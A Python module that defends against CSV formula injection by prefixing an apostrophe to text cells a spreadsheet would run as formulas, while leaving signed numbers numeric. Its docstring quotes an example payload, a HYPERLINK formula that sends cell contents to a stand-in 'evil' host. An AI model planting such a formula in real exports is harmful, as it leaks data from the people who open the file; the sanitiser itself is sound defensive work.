"""CSV cells a spreadsheet would run as a formula are written as text (OWASP "CSV injection").

A cell starting with =, +, -, @, a tab or a carriage return is a formula to Excel, LibreOffice
and Google Sheets: `=HYPERLINK("http://evil/?"&A1, "click")` in a tag or resource name would
run on the finance desk that opens the export. Such a cell gets a leading apostrophe, which
spreadsheets show as text. Real numbers stay as they are: "-12.50" is a negative amount, not a
formula, and must stay numeric. Every CSV the project writes for people passes its cells here.
"""

from __future__ import annotations

import re

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A plain decimal number (what our writers produce for amounts and quantities), optionally
# signed, optionally with an exponent: left alone.
_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def csv_safe(value: str) -> str:
    """value, with a leading apostrophe when a spreadsheet would read it as a formula."""
    if value.startswith(_FORMULA_START) and not _NUMBER.match(value):
        return "'" + value
    return value


def csv_safe_cell(value: object) -> object:
    """csv_safe for text cells; other values (numbers, dates, None) unchanged."""
    return csv_safe(value) if isinstance(value, str) else value
